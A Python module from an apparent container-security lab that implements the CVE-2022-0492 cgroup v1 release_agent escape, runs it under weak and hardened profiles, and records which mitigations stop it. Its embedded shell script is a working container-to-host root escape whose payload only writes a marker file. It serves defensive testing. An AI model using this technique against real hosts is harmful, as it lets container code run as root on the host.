"""cgroup v1 release_agent (CVE-2022-0492)."""

from __future__ import annotations

import os
import time
import uuid

from engine.attacks.base import Attack, Lab, Outcome, read_text, seccomp_mitigation, step_text
from engine.errors import EngineError
from engine.steps import FileSink, Recorder


class ReleaseAgent(Attack):
    name = "release_agent"
    title = "cgroup v1 release_agent"
    cve = "CVE-2022-0492"
    technique = ("mount a cgroup v1 hierarchy (a new named one, so no host cgroup is touched), point its "
                 "release_agent at a script in the container's own upper directory (its host path is in "
                 "/proc/self/mountinfo), set notify_on_release on a child cgroup and let it empty: the kernel "
                 "runs the script on the host, as root, in the host's namespaces. The script only writes a "
                 "marker file.")
    weak = "--cap-add SYS_ADMIN --cgroupns=host (config cgroupns=false)"
    stops_it = ("without CAP_SYS_ADMIN seccomp refuses mount(2) (EPERM, a seccomp_denied event) and so would "
                "the capability check; a private cgroup namespace forbids creating hierarchies (\"Hierarchies "
                "may only be created in the initial cgroup namespace\", kernel/cgroup/cgroup-v1.c) and shows "
                "only the container's own subtree, where release_agent does not exist; since 5.17 writing "
                "release_agent needs CAP_SYS_ADMIN in the initial user namespace")

    def config(self, lab: Lab, profile: str) -> dict:
        if profile == "weak":
            return {"security": {"cap_add": ["CAP_SYS_ADMIN"]}, "cgroupns": False}
        return {}

    def execute(self, lab: Lab, profile: str) -> Outcome:
        self.hier = "labtui-lab-" + uuid.uuid4().hex[:8]
        script = lab.script(f"""
H={self.hier}
mkdir -p /tmp/cg
if ! mount -t cgroup -o none,name=$H cgroup /tmp/cg 2>/tmp/err; then
  echo "BLOCKED: mount cgroup: $(cat /tmp/err)"; exit 1
fi
echo "OK: mounted a new cgroup v1 hierarchy name=$H"
upper=$(sed -n 's/.*upperdir=\\([^,]*\\).*/\\1/p' /proc/self/mountinfo | head -n 1)
echo "INFO: the container's upper directory on the host: $upper"
printf '#!/bin/sh\\necho "release_agent ran on the host: uid=$(id -u) host=$(uname -n) cgroup=$1" > %s\\n' \\
  "$upper/release_agent.marker" > /agent.sh
chmod +x /agent.sh
if ! echo "$upper/agent.sh" > /tmp/cg/release_agent 2>/tmp/err; then
  echo "BLOCKED: release_agent: $(cat /tmp/err)"; umount /tmp/cg; exit 1
fi
mkdir /tmp/cg/x && echo 1 > /tmp/cg/x/notify_on_release
sh -c 'echo $$ > /tmp/cg/x/cgroup.procs'
i=0; while [ ! -s /release_agent.marker ] && [ $i -lt 50 ]; do sleep 0.1; i=$((i+1)); done
rmdir /tmp/cg/x; echo > /tmp/cg/release_agent; umount /tmp/cg
if [ -s /release_agent.marker ]; then echo "MARKER: $(cat /release_agent.marker)"
else echo "BLOCKED: the agent did not run"; fi
""")
        run = lab.run(["sh", script], extra=self.config(lab, profile))
        self.cleanup_hierarchy()
        host_marker = read_text(_upper(run.cid))  # checked on the host, in the container's upper dir
        if host_marker and "uid=0" in host_marker:
            return Outcome(True, f"the kernel ran the container's script on the host as root; it wrote "
                                 f"{_upper(run.cid)}: {host_marker.strip()!r}", details={"output": run.output})
        mit = (seccomp_mitigation(run, ("mount",))
               or step_text(run.step("namespace", "unshare", contains="CLONE_NEWCGROUP")))
        return Outcome(False, run.first("BLOCKED:") or "the agent never ran", mit, {"output": run.output})

    def cleanup_hierarchy(self) -> None:
        """Take the lab's named hierarchy down from the host: while a child cgroup is left it lives on
        (every process would list it in /proc/PID/cgroup). Mount it in a private mount namespace,
        remove children, unmount; the kernel destroys an unmounted hierarchy with no children."""
        name = getattr(self, "hier", None)
        if not name:
            return
        from engine import syscalls as sc  # imported before fork: the child must not import anything

        rec = Recorder(None, FileSink(None))
        for _ in range(5):
            if not _hierarchy_exists(name):
                return
            pid = os.fork()
            if pid == 0:
                code = 1
                try:
                    d = f"/tmp/.{name}"
                    os.makedirs(d, exist_ok=True)
                    with rec.step("cgroup", "clean up lab hierarchy", target=name,
                                  value="private mount namespace: mount, rmdir children, umount",
                                  shell=f"unshare -m --propagation private sh -c 'mount -t cgroup -o none,name={name} "
                                        f"cgroup {d}; rmdir {d}/*/; umount {d}'"):
                        sc.unshare(sc.CLONE_NEWNS)
                        sc.mount(None, "/", None, sc.MS_REC | sc.MS_PRIVATE)
                        sc.mount("cgroup", d, "cgroup", 0, f"none,name={name}")
                        for root, dirs, _ in os.walk(d, topdown=False):
                            for x in dirs:
                                os.rmdir(os.path.join(root, x))
                        sc.umount2(d, 0)
                    os.rmdir(d)
                    code = 0
                finally:
                    os._exit(code)
            os.waitpid(pid, 0)
            time.sleep(0.2)
        if _hierarchy_exists(name):
            raise EngineError(f"the lab's cgroup hierarchy name={name} could not be removed")

    def host_cleanup(self, lab: Lab) -> None:
        self.cleanup_hierarchy()


def _hierarchy_exists(name: str) -> bool:
    with open("/proc/self/cgroup") as f:
        return any(f":name={name}:" in line for line in f)


def _upper(cid: str):
    from engine import paths

    return paths.container_dir(cid) / "upper" / "release_agent.marker"
